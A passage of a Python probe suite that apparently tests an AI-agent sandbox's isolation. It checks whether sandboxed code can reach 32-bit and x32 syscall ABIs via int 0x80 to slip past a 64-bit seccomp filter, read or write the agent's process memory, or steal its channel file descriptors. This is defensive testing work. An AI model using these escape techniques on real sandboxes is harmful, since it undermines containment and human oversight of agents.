def int80_socket_via_socketcall(family, typ):
    mem = low_memory()
    ctypes.memmove(mem, INT80_STUB, len(INT80_STUB))
    argv = mem + 2048
    ctypes.memmove(argv, struct.pack("<III", family, typ, 0), 12)
    fn = ctypes.CFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 6))(mem)
    ret = fn(I386["socketcall"], 1, argv, 0, 0, 0)  # SYS_SOCKET
    return (ret, 0) if ret >= 0 or ret < -4095 else (-1, -ret)


def x32(nr, *args):
    ctypes.set_errno(0)
    ret = LIBC.syscall(ctypes.c_long(X32_BIT | nr), *[ctypes.c_long(a) for a in args])
    return ret, (ctypes.get_errno() if ret < 0 else 0)


def int80_misread():
    """None when int 0x80 reaches the i386 table (or is refused); else why the answers it gives are
    not i386 calls. gVisor's Sentry (ptrace platform) dispatches int 0x80 into its 64-bit table:
    i386 getpid (20) then runs x86_64 writev and i386 socketcall (102) runs getuid, each under the
    same 64-bit filter as any other call. The i386 getpid must return this process's pid to count
    as the i386 ABI answering."""
    res, why = in_child(lambda: (int80(I386["getpid"])[0], os.getpid()))
    if why is not None:
        return None
    got, pid = res
    if got == pid:
        return None
    return ("int 0x80 is not the i386 table here: i386 getpid answered %d, not this process's pid"
            " %d, so int 0x80 numbers run as 64-bit calls under the 64-bit filter (gVisor's"
            " Sentry); the answers below are those calls" % (got, pid))


def describe(name, res, why):
    if why:
        return False, "%s: %s" % (name, why)
    ret, e = res
    if ret >= 0:
        return True, "%s returned %d" % (name, ret)
    if e in REFUSED:
        return False, "%s refused: %s" % (name, err_name(e))
    return True, "%s was reachable (it failed with %s, not a refusal)" % (name, err_name(e))


@probe("network.compat-sockets")
def compat_sockets(args):
    if not is_x86_64():
        return verdict(False, "not x86_64 (%s): no int 0x80 to try" % platform.machine())
    out = []
    through = False
    misread = int80_misread()
    if misread:
        out.append(misread)
    for fam, name, typ in SOCKET_FAMILIES:
        for how, fn in (("int 0x80 socketcall", lambda: int80_socket_via_socketcall(fam, typ)),
                        ("int 0x80 socket", lambda: int80(I386["socket"], fam, typ, 0)),
                        ("x32 socket", lambda: x32(41, fam, typ, 0))):
            res, why = in_child(fn)
            t, d = describe("%s %s" % (how, name), res, why)
            # A misread int 0x80 made no socket: it ran another 64-bit call, already filtered.
            through = through or (t and not (misread and how.startswith("int 0x80")))
            out.append(d)
    return verdict(through, "; ".join(out))


@probe("kernel.compat-syscalls")
def compat_syscalls(args):
    if not is_x86_64():
        return verdict(False, "not x86_64 (%s): no int 0x80 to try" % platform.machine())
    out = []
    through = False
    misread = int80_misread()
    # Any i386 answer at all means the 32-bit table is open to the sandbox: getpid is the plainest.
    res, why = in_child(lambda: int80(I386["getpid"]))
    if misread:
        out.append(misread)
    elif why is None:
        through = True
        out.append("int 0x80 getpid ANSWERED %d: the i386 ABI is open" % res[0])
    else:
        out.append("int 0x80 getpid: %s" % why)
    res, why = in_child(lambda: x32(39))
    if why is None and res[0] >= 0:
        through = True
        out.append("x32 getpid ANSWERED %d: the x32 ABI is open" % res[0])
    else:
        out.append("x32 getpid: %s" % (why or err_name(res[1])))
    samples = (("unshare", 0x10000000), ("setns", -1, 0), ("mount", 0, 0, 0, 0, 0), ("ptrace", 16, 1),
               ("keyctl", 0, -3, 0), ("add_key", 0, 0, 0, 0, -3), ("bpf", 5, 0, 0), ("userfaultfd", 0),
               ("perf_event_open", 0, 0, -1, -1, 0), ("init_module", 0, 0, 0), ("kexec_load", 0, 0, 0, 0),
               ("io_uring_setup", 4, 0), ("open_by_handle_at", -1, 0, 0), ("pidfd_getfd", -1, 0, 0),
               ("process_vm_readv", 1, 0, 0, 0, 0), ("ipc", 23, 0, 0, 0, 0))  # ipc(SHMGET)
    for name, *a in samples:
        res, why = in_child(lambda: int80(I386[name], *a))
        t, d = describe("int 0x80 " + name, res, why)
        through = through or (t and not misread)
        out.append(d)
    return verdict(through, "; ".join(out))


# ------------------------------------------------------------------------ the agent's process
#
# The agent runs as the same uid as sandbox code. If code could read or write its memory, or take
# its channel fds, it could speak for the agent: forge output, results, TTL expiry, and answers.


def agent_processes():
    """pid 1, this probe's parent (the agent runs it), and every process started as the agent's
    bootstrap ('python3 -u -c ...'): the processes that hold or held the channel."""
    pids = [1] + ([os.getppid()] if os.getppid() > 1 else [])
    for name in os.listdir("/proc")[:5000]:
        if name.isdigit() and int(name) not in pids:
            try:
                with open("/proc/%s/cmdline" % name, "rb") as f:
                    if f.read(64).startswith(b"python3\0-u\0-c\0"):
                        pids.append(int(name))
            except OSError:
                pass
    return pids[:16]


@probe("privilege.agent-memory")
def agent_memory(args):
    out = []
    through = False
    for pid in agent_processes():
        try:
            with open("/proc/%d/maps" % pid) as f:
                start = int(f.readline().split("-", 1)[0], 16)
        except (OSError, ValueError) as e:
            start = None
            out.append("pid %d maps: %s" % (pid, err_name(e.errno) if isinstance(e, OSError) else e))
        fd, e = try_open("/proc/%d/mem" % pid, os.O_RDWR)
        if fd is None:
            fd, e2 = try_open("/proc/%d/mem" % pid)
            if fd is None:
                out.append("pid %d mem: %s" % (pid, e))
                continue
            e = "read-only"
        try:
            if start is not None:
                data = os.pread(fd, 16, start)
                through = through or bool(data)
                out.append("pid %d mem: OPENED (%s), READ %d bytes" % (pid, e or "read-write", len(data)))
            else:
                through = True
                out.append("pid %d mem: OPENED (%s)" % (pid, e or "read-write"))
        except OSError as ex:
            out.append("pid %d mem: opened, read %s" % (pid, err_name(ex.errno)))
        finally:
            os.close(fd)
    t, d = syscall_probe("process_madvise", -1, 0, 0, 0, 0)
    out.append(d)
    return verdict(through or t, "; ".join(out))


@probe("privilege.agent-channel")
def agent_channel(args):
    # Only opened and closed again: a probe never reads or writes the real channel.
    out = []
    through = False
    for pid in agent_processes():
        try:
            fds = sorted(int(n) for n in os.listdir("/proc/%d/fd" % pid))[:64]
        except OSError as e:
            out.append("pid %d fds: %s" % (pid, err_name(e.errno)))
            fds = list(range(0, 8))
        opened = []
        for n in fds:
            for flags in (os.O_WRONLY, os.O_RDONLY):
                fd, e = try_open("/proc/%d/fd/%d" % (pid, n), flags)
                if fd is not None:
                    os.close(fd)
                    opened.append("%d%s" % (n, "w" if flags == os.O_WRONLY else "r"))
                    break
        if opened:
            through = True
            out.append("pid %d: OPENED fds %s" % (pid, ",".join(opened)))
        ret, e = syscall("pidfd_open", pid, 0)
        if ret < 0:
            out.append("pid %d pidfd_open: %s" % (pid, err_name(e)))
            # Without a pidfd, pidfd_getfd must still be refused outright, not fail on EBADF.
            t, d = syscall_probe("pidfd_getfd", -1, 0, 0)
            through = through or t
            out.append(d)
            continue
        taken = []
        for n in fds[:16]:
            got, _ = syscall("pidfd_getfd", ret, n, 0)
            if got >= 0:
                os.close(got)
                taken.append(n)
        os.close(ret)
        through = through or bool(taken)
        out.append("pid %d pidfd_getfd took: %s" % (pid, taken or "nothing"))
    # On runc the channel is a socket the agent connected to at start (the agent link); the
    # host's listener must be gone by the time anything else runs here.
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.settimeout(5)
        s.connect("/run/agentnest/agent.sock")
        through = True
        out.append("agent link: CONNECTED")
    except OSError as e:
        out.append("agent link: %s" % err_name(e.errno))
    finally:
        s.close()
    return verdict(through, "; ".join(out))


# ---------------------------------------------------------------------------------- helpers


@probe("helper.listen-abstract")
def listen_abstract(args):
    # Run in the *other* sandbox: holds an abstract socket and a /tmp file for a while.
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\0" + args["abstract"])
    s.listen(1)
    open(args["tmp_file"], "w").write("other sandbox")
    verdict(False, "listening")
    sys.stdout.flush()
    time.sleep(float(args.get("seconds", 30)))


def main():
    if sys.argv[1:2] == ["--list"]:
        print(" ".join(k for k in PROBES if not k.startswith("helper.")))
        return
    if len(sys.argv) < 2 or sys.argv[1] not in PROBES:
        verdict(False, "unknown probe %r" % (sys.argv[1:2],))
        sys.exit(2)
    args = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
    try:
        PROBES[sys.argv[1]](args)
    except Exception as e:  # a probe that breaks says so; the host counts it as an error
        print("AGENTNEST-PROBE-ERROR %s: %s" % (type(e).__name__, str(e)[:500]))
        sys.exit(3)


if __name__ == "__main__":
    main()
